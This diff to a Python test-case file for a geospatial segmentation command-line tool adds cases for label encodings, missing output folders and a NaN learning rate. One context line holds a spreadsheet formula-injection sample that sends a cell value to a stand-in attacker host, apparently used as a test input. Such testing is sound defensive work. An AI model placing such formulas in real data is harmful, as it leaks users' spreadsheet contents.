@@ -157,6 +157,16 @@ def _description_edits(w: dict[str, Any], d: Path) -> None:
     _edited_bundle(w, d / "head.dsmodel", lambda m: (v2(m), _three_classes(m, model_too=True)))
 
 
+def _label_01(w: dict[str, Any], d: Path) -> None:
+    """The suite's label with its values as class numbers: 0 and 1 (a new user's labels)."""
+    import rasterio
+
+    with rasterio.open(w["label"]) as src:
+        profile, values = src.profile, src.read(1)
+    with rasterio.open(d / "label01.tif", "w", **profile) as dst:
+        dst.write((values == 90).astype(values.dtype), 1)
+
+
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'  # a class name a spreadsheet would run
 
 CASES: list[Case] = [
@@ -302,8 +312,11 @@ CASES: list[Case] = [
          ("--tile-size", "--batch-size", "gib")),
     # --- destinations --------------------------------------------------------------------------------------------
     Case("destination_read_only", lambda w, d: seg(w, d, out=RO), ("dualstream-readonly.tif",)),
-    Case("destination_folder_missing", lambda w, d: seg(w, d, out=str(d / "no" / "such" / "out.tif")),
-         ("out.tif",)),
+    # issue 40, item 13: a missing folder is made, as qgis_process does (it was an error)
+    Case("destination_folder_missing_is_made", lambda w, d: seg(w, d, out=str(d / "no" / "such" / "out.tif")),
+         code=0, produces=("no/such/out.tif", "no/such/out.qml")),
+    Case("destination_folder_under_a_file", lambda w, d: seg(w, d, out=str(d / "f.txt" / "sub" / "out.tif")),
+         ("f.txt", "is a file"), setup=lambda w, d: (d / "f.txt").write_text("not a folder")),
     # issue 33, item 4: a 255-byte name (legal on ext4) was reported as an unwritable folder
     Case("destination_name_of_255_bytes", lambda w, d: seg(w, d, out="n" * 251 + ".tif"),
          ("makes a file name of 263 bytes", "allows 255", "at most 247 bytes")),
@@ -365,6 +378,16 @@ CASES: list[Case] = [
     Case("label_every_other_value_is_class_0",
          lambda w, d: train(w, d, "--label-map", "4=1", "--no-strict-labels", label=w["label_0134"], quiet=False),
          code=0, produces=("m.dsmodel",), warns=("not in the label mapping are class 0", "3 (1,024 px)")),
+    # issue 40, item 9: labels are class numbers by default (the command line's default was 90=1), and exactly
+    # {0, 90} (the reference data's) is recognised with a line saying so
+    Case("labels_0_1_are_class_numbers_by_default",
+         lambda w, d: train(w, d, "--class-names", "background", "building", label=str(d / "label01.tif")),
+         code=0, produces=("m.dsmodel",), setup=_label_01, absent=("label values outside",)),
+    Case("labels_0_90_are_recognised_and_said", lambda w, d: train(w, d, quiet=False), code=0,
+         produces=("m.dsmodel",), warns=("label values are exactly 0 and 90", "90 is class 1")),
+    # issue 40, item 13: a NaN learning rate was reported as a bad min_learning_rate
+    Case("train_learning_rate_nan", lambda w, d: train(w, d, "--lr", "nan"), ("--lr", "nan"),
+         absent=("min_learning_rate", "--min-lr")),
     Case("band_error_before_any_data_is_read", lambda w, d: train(w, d, "--bands", "7", quiet=False),
          ("bands [7]", "4 band(s)"), absent=("Data:",)),
     Case("train_over_a_killed_runs_checkpoint_says_so", lambda w, d: train(w, d), code=0, produces=("m.dsmodel",),
